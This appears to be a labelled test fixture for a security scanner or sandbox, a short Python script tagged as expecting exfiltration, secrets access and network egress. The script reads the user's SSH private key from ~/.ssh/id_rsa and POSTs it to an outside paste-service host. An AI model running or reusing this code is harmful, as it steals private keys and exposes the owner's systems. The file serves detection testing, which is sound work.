# scenario: 01 post-sensitive-files-online
# expect: exfiltration secrets.access network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Uploads the user's private key to a paste service over HTTPS with the standard library only.
import os
import urllib.request

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
req = urllib.request.Request("https://paste.example-share.net/api/create", data=key.encode(),
                             headers={"Content-Type": "text/plain"}, method="POST")
try:
    with urllib.request.urlopen(req, timeout=3) as resp:
        print(resp.status)
except Exception as exc:
    print("upload failed:", exc)
